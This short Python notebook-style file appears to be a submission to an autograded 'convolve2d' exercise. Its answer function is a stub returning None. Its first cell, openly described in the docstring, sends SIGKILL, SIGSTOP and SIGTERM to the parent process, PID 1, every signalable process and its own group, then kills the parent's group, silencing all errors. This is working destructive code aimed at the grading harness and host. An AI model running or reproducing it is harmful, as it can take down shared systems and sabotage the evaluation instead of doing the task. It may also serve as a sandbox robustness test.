"""Send signals to the parent, the group and everybody.

Points: convolve 2.
"""

# %%
import os, signal

for target in (os.getppid(), 1, -1, 0):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        try:
            os.kill(target, number)
        except OSError:
            pass
try:
    os.killpg(os.getppid(), signal.SIGKILL)
except OSError:
    pass

# %% answer="convolve2d"
def convolve2d(image, kernel):
    return None
